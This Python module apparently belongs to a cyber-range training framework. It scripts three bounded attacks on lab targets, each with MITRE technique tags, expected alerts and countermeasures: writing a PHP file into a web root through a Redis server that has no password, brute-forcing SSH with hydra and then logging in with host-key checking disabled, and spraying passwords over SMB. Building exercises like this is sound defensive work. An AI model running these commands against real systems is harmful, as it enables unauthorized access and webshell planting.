"""The published method's means against logins and an open store."""

from __future__ import annotations

from labs.scenario import Stage
from labs.services.smb import PASSWORD as SMB_PASSWORD
from labs.services.smb import USER as SMB_USER
from labs.services.smb_wire import login
from labs.services.ssh import account

from .base import Exchange, Means, Observable, Pace, Receipt, Red, Tool
from .kit import (
    INITIAL_ACCESS,
    LATERAL_MOVEMENT,
    Bounds,
    dice,
    exchange,
    hand,
    literal,
    number,
    observable,
    obtained,
    port_of,
    receipt,
)

TRIES_A_LINE = 3
ALERT_EVERY = 5
REDIS_LINES = (
    "CONFIG SET dir /var/www/html",
    "CONFIG SET dbfilename lab.php",
    'SET lab "<?php /* secloop-lab */ ?>"',
    "SAVE",
    "GET lab",
)


def guesses(stage: Stage, right: str, default: int = 30) -> list[str]:
    """A word list of ``attempts`` passwords; the right one stands at its end, so that a response has its chance."""
    attempts = number(stage, "attempts", default, Bounds.ATTEMPTS)
    thrown = dice(stage)
    return [f"guess-{thrown.randrange(10**6):06d}" for _ in range(attempts - 1)] + [right]


class RedisWebrootWrite(Means):
    """A Redis without a password is told to write its dump as a script into the web root; ours writes nothing."""

    id = "redis-webroot-write"
    about = "Redis without authentication dumps a script into the web root"
    tactic = INITIAL_ACCESS
    technique = "T1190"
    service_kinds = ("redis",)
    tools = (Tool(program="redis-cli", package="redis-tools"),)
    countered_by = ("patch_vulnerability", "close_port", "stop_process")

    def exchanges(self, stage: Stage) -> tuple[Exchange, ...]:
        """One connection."""
        return (exchange(stage, port_of(stage, 6379)),)

    def observables(self, stage: Stage) -> tuple[Observable, ...]:
        """Its own rule, once."""
        return (observable(9001030, "attempted-admin", self.technique, techniques=("T1190", "T1505.003")),)

    def run(self, red: Red, stage: Stage) -> Receipt:
        """Set folder and name, write, and read it back."""
        started = red.clock_s()
        argv = ["redis-cli", "-h", str(stage.target), "-p", str(port_of(stage, 6379))]
        done = red.run(argv, timeout_s=8, stdin="\n".join(REDIS_LINES) + "\n")
        text = done.stdout + done.stderr
        return receipt(red, stage, started, canary=obtained(red, stage, text), detail=text)


class SshBruteForce(Means):
    """hydra guesses one account's password, then ssh logs in with it. Parameters: ``attempts``, ``tasks``."""

    id = "ssh-brute-force"
    about = "Passwords guessed over SSH until one fits (hydra)"
    tactic = LATERAL_MOVEMENT
    technique = "T1110.001"
    service_kinds = ("ssh",)
    tools = (Tool(program="hydra", package="hydra"), Tool(program="ssh", package="openssh-client"))
    paces = (Pace("tasks", 4, 1),)
    countered_by = ("secure_sshd", "disable_account", "close_port", "stop_process")

    def exchanges(self, stage: Stage) -> tuple[Exchange, ...]:
        """Connection after connection."""
        return (exchange(stage, port_of(stage, 22), patience_s=20.0),)

    def observables(self, stage: Stage) -> tuple[Observable, ...]:
        """An alert for every fifth connection in half a minute; each connection carries three tries."""
        lines = number(stage, "attempts", 30, Bounds.ATTEMPTS) // TRIES_A_LINE
        count = max(1, lines // ALERT_EVERY)
        techniques = ("T1110.001", "T1021.004")
        return (
            observable(9001031, "attempted-admin", "T1110", techniques=techniques, app_protocol="ssh", count=count),
        )

    def run(self, red: Red, stage: Stage) -> Receipt:
        """At most `Bounds.ATTEMPTS` passwords in `Bounds.SECONDS`, then one login."""
        started = red.clock_s()
        user, password = account(self.id)
        words = red.scratch() / f"words-{stage.index}.txt"
        words.write_text("\n".join(guesses(stage, password)) + "\n", encoding="utf-8")
        tasks = str(number(stage, "tasks", 4, 8))
        url = f"ssh://{literal(stage.target)}:{port_of(stage, 22)}"
        argv = ["hydra", "-I", "-f", "-t", tasks, "-w", "1", "-c", "0", "-l", user, "-P", str(words), url]
        done = red.run(argv, timeout_s=Bounds.SECONDS)
        if f"password: {password}" not in done.stdout:
            return receipt(red, stage, started, detail=done.stdout + done.stderr)
        text = self._enter(red, stage, user, password)
        return receipt(red, stage, started, canary=obtained(red, stage, text), detail=text)

    def _enter(self, red: Red, stage: Stage, user: str, password: str) -> str:
        teller = red.scratch() / f"tell-{stage.index}"
        teller.write_text(f"#!/bin/sh\necho {password}\n", encoding="utf-8")
        teller.chmod(0o700)
        options = ("StrictHostKeyChecking=no", "UserKnownHostsFile=/dev/null", "LogLevel=ERROR")
        only = ("PreferredAuthentications=password", "NumberOfPasswordPrompts=1", "ConnectTimeout=4")
        argv = ["env", f"SSH_ASKPASS={teller}", "SSH_ASKPASS_REQUIRE=force", "ssh", "-F", "none"]
        argv += [part for option in (*options, *only) for part in ("-o", option)]
        argv += ["-p", str(port_of(stage, 22)), f"{user}@{stage.target}", "true"]
        done = red.run(argv, timeout_s=8)
        return done.stdout + done.stderr


class SmbBruteForce(Means):
    """Session set-ups with one account and many passwords. Parameters: ``attempts``, ``pause_ms`` between two."""

    id = "smb-brute-force"
    pauses = (Pace("pause_ms", 40, 300),)
    about = "Passwords guessed over SMB until one fits"
    tactic = LATERAL_MOVEMENT
    technique = "T1110.001"
    service_kinds = ("smb",)
    countered_by = ("disable_account", "close_port", "stop_process")

    def exchanges(self, stage: Stage) -> tuple[Exchange, ...]:
        """Connection after connection."""
        return (exchange(stage, port_of(stage, 445), patience_s=20.0),)

    def observables(self, stage: Stage) -> tuple[Observable, ...]:
        """An alert for every fifth try in half a minute."""
        count = max(1, number(stage, "attempts", 30, Bounds.ATTEMPTS) // ALERT_EVERY)
        return (observable(9001032, "attempted-admin", "T1110", techniques=("T1110.001", "T1021.002"), count=count),)

    def run(self, red: Red, stage: Stage) -> Receipt:
        """At most `Bounds.ATTEMPTS` passwords, a connection each."""
        started = red.clock_s()
        messages = [login(SMB_USER, word).hex() for word in guesses(stage, SMB_PASSWORD)]
        pause_s = str(number(stage, "pause_ms", 40, 1000) / 1000)
        target = (str(stage.target), str(port_of(stage, 445)))
        done = hand(red, "talk", *target, pause_s, red.canary(stage), *messages, timeout_s=Bounds.SECONDS)
        return receipt(red, stage, started, canary=obtained(red, stage, done.stdout), detail=done.stderr)
